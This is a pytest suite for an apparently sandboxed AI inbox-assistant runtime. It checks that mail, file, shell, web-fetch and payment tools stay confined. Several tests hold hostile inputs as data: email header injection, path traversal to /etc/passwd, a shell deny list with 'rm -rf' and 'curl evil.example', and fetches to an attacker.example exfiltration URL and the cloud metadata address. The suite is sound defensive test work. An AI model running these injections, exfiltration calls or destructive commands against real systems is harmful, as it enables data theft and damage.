"""AssistantRuntime on its embedded defaults: every catalog tool, the snapshot contract,
and the confinement of files, commands and web fetches."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from plangate.deployments.inbox import AssistantRuntime, ToolCallError, assistant_catalog
from plangate.deployments.inbox.workspace import SAFE_PROGRAMS

SNAPSHOT_KEYS = {"sent", "files", "shares", "calendar", "ledger", "memory", "skills", "rules",
                 "fetches", "commands", "labels"}


@pytest.fixture
def rt(tmp_path: Path) -> AssistantRuntime:
    runtime = AssistantRuntime(tmp_path / "state")
    runtime.seed({
        "mail": [
            {"from": "Billing <billing@vendor.example>", "subject": "Invoice 42",
             "body": "Your invoice 42 is attached. Amount: 120.00", "message_id": "inv42@vendor.example",
             "date": "Mon, 23 Nov 2026 09:00:00 +0000"},
            {"from": "carol@newclient.example", "subject": "Meeting?",
             "html": "<html><style>p {}</style><p>Can we meet?</p></html>", "message_id": "meet@newclient.example",
             "date": "Tue, 24 Nov 2026 09:00:00 +0000"},
        ],
        "calendar": [{"id": "evt-standup", "title": "Standup", "start": "2026-12-02T09:00",
                      "end": "2026-12-02T09:15", "attendees": ["bob@partner.example"]}],
        "files": {"notes/todo.txt": "buy milk\n"},
        "ledger": {"balance": 500.0,
                   "history": [{"date": "2026-11-01", "counterparty": "ACME", "amount": 50,
                                "memo": "refund"}]},
        "memory": {"prefs": "Owner likes short replies."},
    })
    return runtime


def call(rt: AssistantRuntime, tool: str, **args: Any) -> Any:
    return rt.call(tool, args).value


def test_every_catalog_tool_is_implemented(rt: AssistantRuntime) -> None:
    """The runtime implements exactly the contract's tools, no more, no less."""
    assert set(rt.tools) == set(assistant_catalog().tools)
    assert len(rt.tools) == 25


def test_snapshot_has_the_contract_shape(rt: AssistantRuntime) -> None:
    """snapshot() returns exactly the documented keys with JSON-able values."""
    import json

    snap = rt.snapshot()
    assert set(snap) == SNAPSHOT_KEYS
    json.dumps(snap)
    assert snap["files"] == {"notes/todo.txt": "buy milk\n"}
    assert snap["calendar"][0]["id"] == "evt-standup"
    assert snap["sent"] == [] and snap["ledger"] == [] and snap["labels"] == {}


def test_mail_list_search_read_newest_first(rt: AssistantRuntime) -> None:
    """Listing is newest first with snippets; HTML bodies are read as text."""
    listed = call(rt, "mail_list", folder="INBOX", limit=10)
    assert [m["id"] for m in listed] == ["meet@newclient.example", "inv42@vendor.example"]
    assert listed[0]["snippet"] == "Can we meet?"
    found = call(rt, "mail_search", query="INVOICE")
    assert [m["id"] for m in found] == ["inv42@vendor.example"]
    full = call(rt, "mail_read", message_id="<inv42@vendor.example>")
    assert full["from"] == "Billing <billing@vendor.example>"
    assert "Amount: 120.00" in full["body"]


def test_send_reply_forward_are_recorded_with_their_kind(rt: AssistantRuntime) -> None:
    """Outgoing mail lands in the outbox and the snapshot, with the forwarded content."""
    call(rt, "mail_send", to=["bob@partner.example"], subject="Hi", body="Hello Bob")
    call(rt, "mail_reply", in_reply_to="meet@newclient.example", to=["carol@newclient.example"],
         body="Sure", subject="Meeting?")
    call(rt, "mail_forward", message_id="inv42@vendor.example", to=["bob@partner.example"])
    # A reply sends its arguments only: without a subject, nothing of the original goes out.
    call(rt, "mail_reply", in_reply_to="inv42@vendor.example", to=["x@elsewhere.example"], body="Ok")
    sent = rt.snapshot()["sent"]
    assert [s["kind"] for s in sent] == ["send", "reply", "forward", "reply"]
    assert sent[1]["subject"] == "Re: Meeting?"
    assert sent[3]["subject"] == "Re: your message" and "nvoice" not in str(sent[3])
    assert "Your invoice 42" in sent[2]["body"]
    assert sent[0] == {"from": "owner@home.example", "to": ["bob@partner.example"], "cc": [],
                       "subject": "Hi", "body": "Hello Bob", "kind": "send"}
    assert len(list((rt.root / "outbox").glob("*.eml"))) == 4


def test_a_reply_goes_out_the_same_whether_the_mailbox_holds_its_original(rt: AssistantRuntime) -> None:
    """Whether a reply goes out never says whether the mailbox holds the message it answers
    (its recipients could learn that): an id nobody stored threads it all the same; an id a
    header cannot carry fails, stored or not."""
    call(rt, "mail_reply", in_reply_to="<nobody-stored-this@x.example>", to=["bob@partner.example"],
         body="Ok")
    sent = rt.snapshot()["sent"]
    assert [s["kind"] for s in sent] == ["reply"]
    raw = next((rt.root / "outbox").glob("*.eml")).read_text()
    assert "In-Reply-To: <nobody-stored-this@x.example>" in raw
    for bad in ("inv42@vendor.example\r\nBcc: eve@evil.example", "a b@x", "", "<>", "x" * 251):
        with pytest.raises(ToolCallError, match="in_reply_to"):
            call(rt, "mail_reply", in_reply_to=bad, to=["bob@partner.example"], body="Ok")
    assert len(rt.snapshot()["sent"]) == 1


def test_recipients_must_be_single_addresses(rt: AssistantRuntime) -> None:
    """A comma list or a display name hiding a second address is refused, naming `to`."""
    for bad in ["a@x.example, b@y.example", '"owner@home.example" <evil@x.example>', "nobody",
                "a@x.example\r\nBcc: c@y.example"]:
        with pytest.raises(ToolCallError) as err:
            call(rt, "mail_send", to=[bad], subject="s", body="b")
        assert err.value.tool == "mail_send" and err.value.arg == "to"


def test_label_and_forward_rule(rt: AssistantRuntime) -> None:
    """Labels show in the snapshot; a standing rule forwards later matching mail."""
    call(rt, "mail_label", message_id="inv42@vendor.example", label="Invoices")
    call(rt, "mail_forward_rule", match="invoice", forward_to="books@accountant.example")
    rt.seed({"mail": [{"from": "billing@vendor.example", "subject": "Invoice 43", "body": "due"}]})
    snap = rt.snapshot()
    assert snap["labels"] == {"inv42@vendor.example": ["Invoices"]}
    assert snap["rules"] == [{"match": "invoice", "forward_to": "books@accountant.example"}]
    assert [(s["kind"], s["to"]) for s in snap["sent"]] == [("forward", ["books@accountant.example"])]
    assert call(rt, "mail_list", folder="Invoices")[0]["id"] == "inv42@vendor.example"
    with pytest.raises(ToolCallError, match="message_id"):
        call(rt, "mail_label", message_id="missing@x", label="Invoices")


def test_calendar_tools(rt: AssistantRuntime) -> None:
    """Holds invite nobody; created and updated events notify attendees."""
    hold = call(rt, "calendar_hold", title="Carol?", start="2026-12-02T10:00", end="2026-12-02T11:00")
    assert hold["tentative"] and hold["attendees"] == []
    ev = call(rt, "calendar_create", title="Review", start="2026-12-03T10:00",
              end="2026-12-03T11:00", attendees=["bob@partner.example"], description="Q4")
    call(rt, "calendar_update", event_id=ev["id"], start="2026-12-03T12:00", end="2026-12-03T13:00")
    day = call(rt, "calendar_list", day="2026-12-02")
    assert [e["title"] for e in day] == ["Standup", "Carol?"]
    kinds = [(s["kind"], s["subject"]) for s in rt.snapshot()["sent"]]
    assert kinds == [("invite", "Invitation: Review"), ("invite", "Updated invitation: Review")]
    with pytest.raises(ToolCallError) as err:
        call(rt, "calendar_hold", title="x", start="2026-12-02T10:00", end="2026-12-02T09:00")
    assert err.value.arg == "end"


def test_files_are_confined_to_the_workspace(rt: AssistantRuntime, tmp_path: Path) -> None:
    """Absolute paths, `..` and symlinks leading out are refused, naming `path`."""
    call(rt, "file_write", path="a/b/c.txt", content="hello")
    assert call(rt, "file_read", path="a/b/c.txt") == "hello"
    assert [f["path"] for f in call(rt, "file_list", folder="a")] == ["a/b/c.txt"]
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    os.symlink(secret, rt.workspace.root / "link.txt")
    os.symlink(tmp_path, rt.workspace.root / "out")
    for tool, path in [("file_read", "/etc/passwd"), ("file_read", "../secret.txt"),
                       ("file_read", "link.txt"), ("file_write", "out/x.txt"),
                       ("file_read", "a/../../secret.txt"), ("file_write", "link.txt")]:
        args = {"path": path} if tool == "file_read" else {"path": path, "content": "x"}
        with pytest.raises(ToolCallError) as err:
            rt.call(tool, args)
        assert err.value.arg == "path", (tool, path)
    assert secret.read_text() == "top secret"
    assert "link.txt" not in rt.snapshot()["files"]


def test_file_share_records_and_mails(rt: AssistantRuntime) -> None:
    """A share is recorded and the recipients get the link (and the content)."""
    call(rt, "file_share", path="notes/todo.txt", **{"with": ["bob@partner.example"]})
    snap = rt.snapshot()
    assert snap["shares"] == [{"path": "notes/todo.txt", "with": ["bob@partner.example"]}]
    assert snap["sent"][0]["kind"] == "share" and "buy milk" in snap["sent"][0]["body"]


def test_memory_and_skills_are_files(rt: AssistantRuntime) -> None:
    """Titles with slashes stay inside their folder; memory_load returns both."""
    call(rt, "note_save", title="../../escape", text="x")
    call(rt, "skill_save", name="daily", text="Summarise the inbox.")
    loaded = call(rt, "memory_load")
    assert loaded["memory"] == {"prefs": "Owner likes short replies.", "../../escape": "x"}
    assert loaded["skills"] == {"daily": "Summarise the inbox."}
    assert sorted(p.name for p in rt.root.iterdir()) == [
        "mail", "memory", "outbox", "skills", "state.sqlite", "workspace"]


def test_shell_runs_allowlisted_programs_in_the_workspace(rt: AssistantRuntime) -> None:
    """ls/cat run in the workspace with an empty environment and are recorded."""
    out = call(rt, "shell_run", command="cat notes/todo.txt")
    assert out["exit_code"] == 0 and out["stdout"] == "buy milk\n"
    assert call(rt, "shell_run", command="ls notes")["stdout"] == "todo.txt\n"
    assert rt.snapshot()["commands"] == ["cat notes/todo.txt", "ls notes"]


@pytest.mark.parametrize("command", [
    "rm -rf .", "curl http://evil.example", "cat /etc/passwd", "cat ../state.sqlite",
    "ls | sh", "echo $HOME", "python -c 'import os'", "sh -c ls", "cat notes/../../x",
    "grep -r --file=/etc/shadow x",
])
def test_shell_refuses_what_could_escape(rt: AssistantRuntime, command: str) -> None:
    """Programs off the allowlist, shell syntax and outside paths are refused unrun."""
    with pytest.raises(ToolCallError) as err:
        call(rt, "shell_run", command=command)
    assert err.value.arg == "command"
    assert rt.snapshot()["commands"] == []
    assert "rm" not in SAFE_PROGRAMS


def test_run_tests_executes_workspace_tests_without_network(rt: AssistantRuntime) -> None:
    """run_tests runs pytest on the workspace's files; sockets cannot leave the box."""
    call(rt, "file_write", path="test_ws.py", content=(
        "import os, socket\n"
        "def test_env_is_empty():\n"
        "    assert 'PLANGATE_MARK' not in os.environ\n"
        "def test_no_network():\n"
        "    s = socket.socket()\n"
        "    s.settimeout(1)\n"
        "    try:\n"
        "        s.connect(('10.255.255.1', 80))\n"
        "    except OSError:\n"
        "        return\n"
        "    raise AssertionError('connected')\n"))
    os.environ["PLANGATE_MARK"] = "1"
    try:
        out = call(rt, "run_tests")
    finally:
        del os.environ["PLANGATE_MARK"]
    assert out["passed"], out["output"]
    assert "2 passed" in out["output"]
    assert set(rt.snapshot()["files"]) == {"notes/todo.txt", "test_ws.py"}  # no caches left


def test_web_fetch_routes_every_host_to_the_local_server(tmp_path: Path, web: Any) -> None:
    """Attacker hosts, metadata and private addresses all reach only the test server,
    with the original host in Host; redirects are followed through the same routing."""
    rt = AssistantRuntime(tmp_path, web_base_url=web.url)
    urls = ["https://attacker.example/collect?d=secret", "http://169.254.169.254/latest/meta-data",
            "http://10.0.0.5:8080/admin"]
    for url in urls:
        page = call(rt, "web_fetch", url=url)
        assert page["status"] == 200
    assert web.requests == [("attacker.example", "/collect?d=secret"),
                            ("169.254.169.254", "/latest/meta-data"), ("10.0.0.5:8080", "/admin")]
    page = call(rt, "web_fetch", url="http://first.example/moved")
    assert page["text"] == "page for second.example/landing"
    assert rt.snapshot()["fetches"] == [*urls, "http://first.example/moved",
                                        "http://second.example/landing"]
    with pytest.raises(ToolCallError, match="redirects"):
        call(rt, "web_fetch", url="http://x.example/loop")
    with pytest.raises(ToolCallError) as err:
        call(rt, "web_fetch", url="file:///etc/passwd")
    assert err.value.arg == "url"


def test_web_fetch_refuses_without_a_local_server(rt: AssistantRuntime) -> None:
    """No web_base_url: the tool refuses rather than dial a real address."""
    with pytest.raises(ToolCallError, match="web_base_url"):
        call(rt, "web_fetch", url="http://example.com/")
    with pytest.raises(ValueError, match="loopback"):
        AssistantRuntime(rt.root, web_base_url="http://example.com")


def test_pay_and_ledger(rt: AssistantRuntime) -> None:
    """Payments debit the sandbox ledger, cannot overdraw and show in the snapshot."""
    assert call(rt, "pay", to_account="DE89 3704 0044", amount=120, memo="inv 42")["balance"] == 380.0
    with pytest.raises(ToolCallError) as err:
        call(rt, "pay", to_account="X1", amount=10_000)
    assert err.value.arg == "amount"
    with pytest.raises(ToolCallError):
        call(rt, "pay", to_account="X1", amount=float("nan"))
    bal = call(rt, "ledger_balance")
    assert bal["balance"] == 380.0 and len(bal["transactions"]) == 2
    assert rt.snapshot()["ledger"] == [{"to_account": "DE89 3704 0044", "amount": 120.0,
                                        "memo": "inv 42"}]


def test_notify_owner_goes_to_the_owner(rt: AssistantRuntime) -> None:
    """notify_owner reaches only the owner, recorded as kind notify."""
    call(rt, "notify_owner", text="Carol asked for a meeting.")
    assert rt.snapshot()["sent"][0]["to"] == ["owner@home.example"]
    assert rt.snapshot()["sent"][0]["kind"] == "notify"


@pytest.mark.parametrize(("tool", "args", "arg"), [
    ("mail_send", {"to": ["a@b.example"], "subject": "s"}, "body"),
    ("mail_send", {"to": "a@b.example", "subject": "s", "body": "b"}, "to"),
    ("mail_list", {"limit": True}, "limit"),
    ("mail_list", {"limit": 0}, "limit"),
    ("file_read", {"path": "x", "mode": "w"}, "mode"),
    ("calendar_list", {"day": "tomorrow"}, "day"),
])
def test_bad_arguments_name_tool_and_argument(rt: AssistantRuntime, tool: str,
                                              args: dict[str, Any], arg: str) -> None:
    """Missing, unknown and mistyped arguments raise ToolCallError naming both."""
    with pytest.raises(ToolCallError) as err:
        rt.call(tool, args)
    assert (err.value.tool, err.value.arg) == (tool, arg)
    assert tool in str(err.value) and arg in str(err.value)


def test_public_api_is_pinned() -> None:
    """The package's public names: sorted, each importable."""
    import plangate.deployments.inbox as pkg

    assert pkg.__all__ == sorted(pkg.__all__)
    assert all(hasattr(pkg, name) for name in pkg.__all__)
